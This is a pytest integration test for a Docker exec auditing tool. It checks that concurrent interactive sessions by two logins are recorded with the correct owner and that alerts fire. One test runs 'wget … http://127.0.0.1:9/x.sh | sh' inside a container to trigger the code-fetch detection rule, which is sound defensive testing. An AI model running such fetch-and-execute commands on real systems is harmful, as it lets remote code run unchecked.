"""Exec sessions with the real auditd, a real dockerd and `docktrail run` (issue #22).

The private auditd of tests/test_audit_live.py records the docker CLI; this
module adds the exec-session rules of deploy/audit/docktrail-exec.rules. Two
logins open `docker exec -it` sessions (on a pty) into the same container at
the same time and type different commands: a pipeline, a background command
that runs on after the session ended. Every command must land in its own
session with its own owner. A `sh -c 'wget … | sh'` raises exec-code-fetch
naming the login. The captured Engine events and audit log, ingested offline,
give the same sessions.
"""

from __future__ import annotations

import contextlib
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from listener.model.event import Event
from sinks.base import EventFilter
from sinks.sqlite import SQLiteTrail
from tests.dockerd import BUSYBOX_REF, Dockerd, EventsRecorder
from tests.test_audit_live import (  # noqa: F401  (fixtures)
    Person,
    PrivateAuditd,
    audit_daemon,
    engine,
    people,
)

HOST = "sessions-live"
RULES = Path(__file__).resolve().parent.parent / "deploy" / "audit" / "docktrail-exec.rules"
CONTAINER = "dt-sessions"


# ---------------------------------------------------------------------------- rules


def exec_rule_lines() -> list[list[str]]:
    """The rule file's rules, as auditctl arguments, for the binaries this host has."""
    rules = []
    for line in RULES.read_text().splitlines():
        if not line.startswith("-a"):
            continue
        words = line.split()
        paths = [w.split("=", 1)[1] for w in words if w.startswith(("exe=", "path="))]
        if all(os.path.exists(p) for p in paths):
            rules.append(words)
    return rules


@pytest.fixture(scope="module")
def exec_rules(audit_daemon: PrivateAuditd) -> Iterator[list[list[str]]]:  # noqa: F811
    loaded = []
    try:
        for words in exec_rule_lines():
            subprocess.run(["auditctl", *words], check=True, capture_output=True)
            loaded.append(words)
        yield loaded
    finally:
        for words in reversed(loaded):
            subprocess.run(["auditctl", "-d", *words[1:]], capture_output=True)


# ---------------------------------------------------------------------------- service


class Service:
    """`docktrail run` in a subprocess, reading the private audit log."""

    def __init__(self, tmp_path: Path, daemon: Dockerd, audit_log: Path, extra: str = "") -> None:
        self.trail_path = tmp_path / "live.db"
        self.config = tmp_path / "docktrail.yaml"
        self.config.write_text(
            f"host: {HOST}\n"
            f"trail:\n  path: {self.trail_path}\n  flush_interval_secs: 0.02\n"
            f"docker:\n  host: {daemon.host}\n"
            f"auditd:\n  log_file: {audit_log}\n  start_at: end\n{extra}"
        )
        self.cwd = tmp_path
        self.process: subprocess.Popen[bytes] | None = None
        self.stderr = tmp_path / "service.log"

    def start(self) -> None:
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.cwd)}
        with self.stderr.open("wb") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "listener", "-c", str(self.config), "run"],
                stdout=subprocess.DEVNULL, stderr=log, cwd=self.cwd, env=env,
            )  # fmt: skip
        assert wait_until(lambda: self.trail_path.exists() and bool(self.events(type="daemon")))

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.terminate()
            self.process.wait(30)

    def events(self, **where: Any) -> list[Event]:
        if not self.trail_path.exists():
            return []
        with SQLiteTrail(self.trail_path) as trail:
            return list(trail.query(EventFilter(**where)))

    def cli(self, *argv: str, db: Path | None = None) -> str:
        result = subprocess.run(
            [sys.executable, "-m", "listener", "-c", str(self.config),
             "--db", str(db or self.trail_path), *argv],
            capture_output=True, text=True, timeout=120, cwd=self.cwd,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        return result.stdout


def wait_until(predicate: Any, timeout: float = 30) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.1)
    return bool(predicate())


# ---------------------------------------------------------------------------- sessions


def login_command(
    person: Person, dockerd: Dockerd, *argv: str, docker_host: str | None = None
) -> tuple[list[str], dict[str, str]]:
    """A command run with the person's login uid (as `as_login` does: the sudo pattern)."""
    env = dict(dockerd.env, DOCKER_CONFIG=str(person.home / ".docker"), HOME=str(person.home))
    if docker_host is not None:  # through the socket proxy
        env["DOCKER_HOST"] = docker_host
    script = f'echo {person.uid} > /proc/self/loginuid && exec "$@"'
    return ["sh", "-c", script, "_", "docker", *argv], env


@dataclass
class Typed:
    person: Person
    shell: list[str]
    lines: list[str]
    docker_host: str | None = None
    output: str = ""
    returncode: int | None = None


def interactive_session(typed: Typed, dockerd: Dockerd) -> None:
    """`docker exec -it CONTAINER SHELL…` on a pty, typing each line as a person would."""
    master, slave = pty.openpty()
    command, env = login_command(
        typed.person, dockerd, "exec", "-it", CONTAINER, *typed.shell, docker_host=typed.docker_host
    )
    process = subprocess.Popen(
        command, stdin=slave, stdout=slave, stderr=slave, env=env, start_new_session=True
    )
    os.close(slave)
    chunks: list[bytes] = []

    def read(seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.05)
            if ready:
                with contextlib.suppress(OSError):
                    chunks.append(os.read(master, 65536))

    try:
        read(1.0)  # the prompt
        for line in [*typed.lines, "exit"]:
            os.write(master, (line + "\n").encode())
            read(0.6)
        typed.returncode = process.wait(30)
        read(0.2)
    finally:
        if process.poll() is None:
            process.kill()
        os.close(master)
    typed.output = b"".join(chunks).decode(errors="replace")


def session_lines(login: str, digit: int) -> list[str]:
    return [
        f"echo {login} > /tmp/{login}-file",
        f"cat /tmp/{login}-file | cat -{'nv'[digit - 1]}",  # a pipeline
        f"(trap '' HUP; sleep 2.{digit}; cat /tmp/{login}-late) &",  # outlives the session
        f"sleep 1.{digit}",
    ]


def expected_commands(login: str, digit: int) -> list[str]:
    return [
        f"cat /tmp/{login}-file",
        f"cat -{'nv'[digit - 1]}",
        f"sleep 1.{digit}",
        f"sleep 2.{digit}",
        f"cat /tmp/{login}-late",
    ]


def commands_of(events: list[Event]) -> list[Event]:
    return [e for e in events if e.action == "exec-command" and e.actor.name == CONTAINER]


def argv_text(event: Event) -> str:
    return " ".join(event.attributes.get("argv") or [])


# ---------------------------------------------------------------------------- test


@pytest.fixture
def live(
    tmp_path: Path,
    exec_rules: list[list[str]],
    audit_daemon: PrivateAuditd,  # noqa: F811
    engine: Dockerd,  # noqa: F811
) -> Iterator[tuple[Service, Dockerd, EventsRecorder, PrivateAuditd]]:
    if shutil.which("docker") is None:
        pytest.fail("the docker CLI is needed")
    engine.docker("rm", "-f", CONTAINER, check=False)
    engine.docker("run", "-d", "--name", CONTAINER, BUSYBOX_REF, "sleep", "600")
    recorder = engine.record_events()
    service = Service(tmp_path, engine, audit_daemon.log_file)
    with recorder:
        service.start()
        try:
            yield service, engine, recorder, audit_daemon
        finally:
            service.stop()
            engine.docker("rm", "-f", CONTAINER, check=False)


def sessions_at_once(typed: dict[str, Typed], dockerd: Dockerd) -> None:
    """Runs every login's interactive session at the same time; all must end well."""
    threads = [
        threading.Thread(target=interactive_session, args=(t, dockerd)) for t in typed.values()
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(90)
    assert all(t.returncode == 0 for t in typed.values()), {k: t.output for k, t in typed.items()}


def test_two_logins_sessions_commands_and_offline_ingest(
    live: tuple[Service, Dockerd, EventsRecorder, PrivateAuditd],
    people: dict[str, Person],  # noqa: F811
    tmp_path: Path,
) -> None:
    service, dockerd, recorder, daemon = live
    alice, bob = people["dt-alice"], people["dt-bob"]
    typed = {
        # The same command line from two logins in the same instant is ambiguous to
        # the CLI's audit records (the exec's owner is then unknown, its candidates
        # named; the socket proxy tells them apart): here each shell differs.
        alice.name: Typed(alice, ["sh"], session_lines("alice", 1)),
        bob.name: Typed(bob, ["sh", "-i"], session_lines("bob", 2)),
    }
    sessions_at_once(typed, dockerd)

    # The code-fetch pattern, non-interactive (nothing listens on port 9: argv is what counts).
    command, env = login_command(
        alice, dockerd, "exec", CONTAINER, "sh", "-c", "wget -q -O- http://127.0.0.1:9/x.sh | sh"
    )
    subprocess.run(command, env=env, capture_output=True, timeout=60)

    def late_commands_in() -> bool:
        texts = {argv_text(e) for e in commands_of(service.events(action="exec-command"))}
        wanted = {"cat /tmp/alice-late", "cat /tmp/bob-late", "wget -q -O- http://127.0.0.1:9/x.sh"}
        return wanted <= texts

    ok = wait_until(late_commands_in, 40)
    assert ok, "\n".join(
        [argv_text(e) + " " + str(e.who.login) for e in service.events(action="exec-command")]
        + [service.stderr.read_text()[-2000:]]
    )
    time.sleep(1.0)
    recorder.catch_up()
    service.stop()
    stored = service.events()
    starts = {
        e.attributes["execID"]: e
        for e in stored
        if e.action == "exec_start" and e.actor.name == CONTAINER
    }
    sessions_of = {
        login: {x for x, e in starts.items() if e.who.login == login and e.config.get("tty")}
        for login in (alice.name, bob.name)
    }
    assert all(len(ids) == 1 for ids in sessions_of.values()), [
        (e.who, e.config, e.attributes) for e in starts.values()
    ]
    commands = commands_of(stored)

    misattributed = []
    for login, digit, other in ((alice.name, 1, "bob"), (bob.name, 2, "alice")):
        (exec_id,) = sessions_of[login]
        mine = sorted(
            (e for e in commands if e.attributes["session"] == exec_id),
            key=lambda e: e.attributes["index"],
        )
        texts = [argv_text(e) for e in mine]
        for wanted in expected_commands(login.removeprefix("dt-"), digit):
            assert wanted in texts, (login, wanted, texts)
        misattributed += [e for e in mine if e.who.login != login or other in argv_text(e)]
        assert mine[0].attributes["argv"] == typed[login].shell
        assert mine[0].attributes["tty"] is True
        late = next(e for e in mine if "-late" in argv_text(e))
        died = next(
            e for e in stored if e.action == "exec_die" and e.attributes["execID"] == exec_id
        )
        assert late.time_ns > died.time_ns, "the background command outlived its session"
        piped = next(e for e in mine if argv_text(e).startswith("cat -"))
        assert "cat" in piped.attributes.get("pipeline", []), piped.attributes
    assert misattributed == []

    # exec-code-fetch names the login.
    found = service.cli("alerts", "-f", "rule=exec-code-fetch", "--format", "json")
    alerts = [json.loads(line) for line in found.splitlines()]
    assert [a["who"]["login"] for a in alerts] == [alice.name], alerts
    assert alice.name in alerts[0]["summary"]
    shells = service.cli("alerts", "-f", "rule=exec-root-shell", "--format", "json")
    assert sorted(json.loads(line)["who"]["login"] for line in shells.splitlines()) == [
        alice.name, bob.name
    ]  # fmt: skip

    # `docktrail session` shows the transcript; `query -f session=` selects it.
    (alice_exec,) = sessions_of[alice.name]
    transcript = service.cli("session", alice_exec[:16])
    assert f"owner {alice.name}" in transcript and "$ cat /tmp/alice-late" in transcript
    assert "bob" not in transcript
    queried = [json.loads(line) for line in service.cli(
        "query", "-f", f"session={alice_exec}", "-f", "action=exec-command", "--format", "json"
    ).splitlines()]  # fmt: skip
    assert {q["attributes"]["session"] for q in queried} == {alice_exec}
    timeline = service.cli("timeline", CONTAINER)
    assert "$ sleep 1.1" in timeline and "$ sleep 1.2" in timeline

    # Offline: the captured Engine events and audit log give the same sessions.
    events_file = tmp_path / "events.jsonl"
    events_file.write_text("".join(json.dumps(raw) + "\n" for raw in recorder.events))
    offline_db = tmp_path / "offline.db"
    service.cli("ingest", "--docker-events", str(events_file),
                "--audit-log", str(daemon.log_file), db=offline_db)  # fmt: skip
    with SQLiteTrail(offline_db) as trail:
        offline = commands_of(list(trail.query(EventFilter(action="exec-command"))))
    assert summary(offline) == summary(commands), summary(offline) ^ summary(commands)
    assert {e.id for e in offline} == {e.id for e in commands}  # the very same events


def summary(commands: list[Event]) -> set[tuple[Any, ...]]:
    return {
        (
            e.attributes["session"], e.who.login, tuple(e.attributes["argv"]),
            e.attributes["exit"], e.attributes["ended"], re.sub(r"\d", "", str(e.who.method)),
        )
        for e in commands
    }  # fmt: skip


@pytest.fixture
def proxied(
    tmp_path: Path,
    exec_rules: list[list[str]],
    audit_daemon: PrivateAuditd,  # noqa: F811
    engine: Dockerd,  # noqa: F811
) -> Iterator[tuple[Service, Dockerd, str]]:
    """`docktrail run` with its socket proxy: peer credentials name each client."""
    engine.docker("rm", "-f", CONTAINER, check=False)
    engine.docker("run", "-d", "--name", CONTAINER, BUSYBOX_REF, "sleep", "600")
    listen = tmp_path / "proxy" / "docker.sock"
    listen.parent.mkdir()
    listen.parent.chmod(0o755)
    extra = f"proxy:\n  enabled: true\n  listen: {listen}\n  engine: {engine.socket_path}\n"
    service = Service(tmp_path, engine, audit_daemon.log_file, extra)
    service.start()
    try:
        assert wait_until(listen.exists)
        yield service, engine, f"unix://{listen}"
    finally:
        service.stop()
        engine.docker("rm", "-f", CONTAINER, check=False)


def test_the_same_exec_by_two_logins_at_once_through_the_proxy(
    proxied: tuple[Service, Dockerd, str],
    people: dict[str, Person],  # noqa: F811
) -> None:
    """`docker exec -it c sh` by both at once: the CLI's argv cannot tell them apart,
    the proxy's peer credentials can; every command goes to its own session."""
    service, dockerd, proxy = proxied
    alice, bob = people["dt-alice"], people["dt-bob"]
    typed = {
        alice.name: Typed(alice, ["sh"], session_lines("alice", 1), proxy),
        bob.name: Typed(bob, ["sh"], session_lines("bob", 2), proxy),
    }
    sessions_at_once(typed, dockerd)

    def late_commands_in() -> bool:
        texts = {argv_text(e) for e in commands_of(service.events(action="exec-command"))}
        return {"cat /tmp/alice-late", "cat /tmp/bob-late"} <= texts

    assert wait_until(late_commands_in, 40)
    time.sleep(1.0)
    service.stop()
    stored = service.events()
    starts = [e for e in stored if e.action == "exec_start" and e.actor.name == CONTAINER]
    assert sorted((e.who.login, e.who.method) for e in starts) == [
        (alice.name, "peer"), (bob.name, "peer")
    ]  # fmt: skip
    commands = commands_of(stored)
    for login, other in ((alice.name, "bob"), (bob.name, "alice")):
        (exec_id,) = [e.attributes["execID"] for e in starts if e.who.login == login]
        mine = [e for e in commands if e.attributes["session"] == exec_id]
        texts = {argv_text(e) for e in mine}
        digit = 1 if login == alice.name else 2
        assert set(expected_commands(login.removeprefix("dt-"), digit)) <= texts, texts
        assert [e for e in mine if e.who.login != login or other in argv_text(e)] == []
